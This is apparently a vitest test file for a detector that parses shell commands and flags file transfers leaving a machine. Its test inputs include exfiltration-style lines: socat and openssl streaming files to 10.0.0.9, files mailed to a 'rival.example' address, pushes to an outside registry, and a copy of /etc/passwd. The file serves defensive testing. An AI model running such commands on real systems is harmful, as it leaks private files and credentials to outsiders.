import { describe, expect, test } from 'vitest'
import { describeTransfer, isKnownDestination } from './transfers.ts'

/** Words as a shell hands them over: single quotes keep what is between them together. */
const told = (line: string, input = ''): string | undefined => {
  const words = [...line.matchAll(/'([^']*)'|(\S+)/g)].map((match) => match[1] ?? match[2] ?? '')
  const name = (words[0] ?? '').split('/').at(-1) ?? ''
  const found = describeTransfer({ executable: `/usr/bin/${name}`, name, arguments: words, cwd: '/home/alice', input, parentName: 'bash' })
  return found === undefined ? undefined : `${found.tool} ${found.destination} ${found.files.join(' ')}`.trim()
}

test.each([
  ["lftp -u bob,SECRET -e 'put a.zip; mput b c; bye' ftp.example.org", 'lftp ftp.example.org /home/alice/a.zip /home/alice/b /home/alice/c'],
  ["lftp -c 'open -u bob,SECRET sftp://ftp.example.org; mirror -R docs in'", 'lftp ftp.example.org /home/alice/docs'],
  ["smbclient //NAS/Public -U 'bob%SECRET' -c 'cd in; put \"my plan.docx\" p.docx'", 'smbclient smb://nas/Public /home/alice/my plan.docx'],
  ['smbclient //nas/public', 'smbclient smb://nas/public'],
  ['gh release upload v1 app.zip#Application -R own/repo', 'gh github.com /home/alice/app.zip'],
  ['gh release create v2 -t title a.zip', 'gh github.com /home/alice/a.zip'],
  ['gh gist create -d notes notes.md', 'gh github.com /home/alice/notes.md'],
  ["mail -s plans -a plans.pdf bob@rival.example", 'mail mail://rival.example /home/alice/plans.pdf'],
  ["mutt -s 'Pläne' -a a.pdf b.pdf -- Bob@Rival.Example", 'mutt mail://rival.example /home/alice/a.pdf /home/alice/b.pdf'],
  ['mutt -a a.pdf bob@rival.example', 'mutt mail://rival.example /home/alice/a.pdf'],
  ['mpack -s plans plans.pdf bob@rival.example', 'mpack mail://rival.example /home/alice/plans.pdf'],
  ['swaks --to bob@rival.example --server smtp.example.org:587 --auth-password SECRET --attach @/srv/a.zip', 'swaks smtp.example.org:587 /srv/a.zip'],
  ['socat -u FILE:/srv/a TCP4:10.0.0.9:4444', 'socat 10.0.0.9:4444 /srv/a'],
  ['socat TCP-LISTEN:8000,fork,reuseaddr OPEN:a.tgz,rdonly', 'socat listen:8000 /home/alice/a.tgz'],
  ['docker cp a.sql web:/tmp', 'docker container:web /home/alice/a.sql'],
  ['kubectl -n prod cp a.sql db-0:/tmp', 'kubectl container:kubernetes/db-0 /home/alice/a.sql'],
  ['podman push registry.rival.example:5000/x/y:1', 'podman registry.rival.example:5000'],
  ['docker push bob/x', 'docker docker.io'],
  ['php -S 0.0.0.0:8000 -t docs', 'php listen:0.0.0.0:8000 /home/alice/docs'],
  ['caddy file-server --listen :2015 --root /srv', 'caddy listen:2015 /srv'],
  ['croc send --code SECRET a.zip', 'croc croc /home/alice/a.zip'],
  ['wormhole send a.zip', 'wormhole wormhole /home/alice/a.zip'],
  ['s3cmd put a.zip s3://Bucket/x', 's3cmd s3://bucket /home/alice/a.zip'],
  ['mc cp a.zip play/bucket', 'mc play/bucket /home/alice/a.zip'],
  ['gio copy a.pdf smb://nas/public/', 'gio nas /home/alice/a.pdf'],
  ['adb -s 1 push a.pdf /sdcard/', 'adb phone:adb /home/alice/a.pdf'],
  ['bluetooth-sendto --device=AA:BB a.pdf', 'bluetooth-sendto bluetooth:aa:bb /home/alice/a.pdf'],
  ['signal-cli -u +49 send -m hi -a a.pdf +4917', 'signal-cli signal /home/alice/a.pdf'],
])('%s', (line, expected) => {
  expect(told(line)).toBe(expected)
  expect(told(line)).not.toMatch(/SECRET|bob@/i)
})

test.each([
  ['socat - TCP:10.0.0.9:4444', '/srv/a', 'socat 10.0.0.9:4444 /srv/a'], ['socat STDIN OPENSSL:h.example:443', 'pipe', 'socat h.example:443'],
  ['openssl s_client -quiet -connect 10.0.0.9:443', '/srv/a', 'openssl 10.0.0.9:443 /srv/a'], ['docker cp - web:/tmp', '/srv/a.tar', 'docker container:web /srv/a.tar'],
])('%s with %s behind it', (line, input, expected) => expect(told(line, input)).toBe(expected))

describe('what sends nothing', () => {
  test.each(['lftp', "smbclient -L //nas", 'gh release view v1', 'gh pr list', 'mail', 'mail -s hi bob@x.example', 'mutt', 'docker cp web:/etc/passwd .', 'docker ps', 'kubectl get pods', 'php -v', 'php x.php', 'caddy run', 'croc', 's3cmd get s3://b/x .', 'gio copy a.pdf /tmp', 'adb pull /sdcard/x', 'socat - UNIX-CONNECT:/x', 'openssl x509 -in a.pem', 'mc ls play'])('%s', (line) => expect(told(line)).toBeUndefined())
  test('a question about a certificate is none', () => expect(told('openssl s_client -connect host.example:443', 'pipe')).toBeUndefined())
})

test('the organisation’s own places are known by their host, whatever stands before it; a bucket is no host', () => {
  const known = ['.example.org', 'nas', 's3://backup']
  expect(['mail://mail.example.org', 'smb://nas/Public', 'files.example.org:22', 's3://backup'].map((destination) => isKnownDestination(destination, known))).toEqual([true, true, true, true])
  expect(['mail://rival.example', 'smb://nas.rival.example/nas', 's3://nas', 'example.org.rival.example'].map((destination) => isKnownDestination(destination, known))).toEqual([false, false, false, false])
})
